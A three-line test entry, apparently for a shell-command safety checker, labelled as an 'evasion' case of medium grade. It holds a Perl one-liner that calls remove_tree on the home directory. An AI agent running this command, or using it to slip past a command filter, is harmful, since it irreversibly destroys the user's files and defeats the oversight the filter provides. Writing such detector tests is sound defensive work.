# evasion: perl File::Path removes the home directory
# grade: medium; does: delete
perl -MFile::Path=remove_tree -e 'remove_tree($ENV{HOME})'
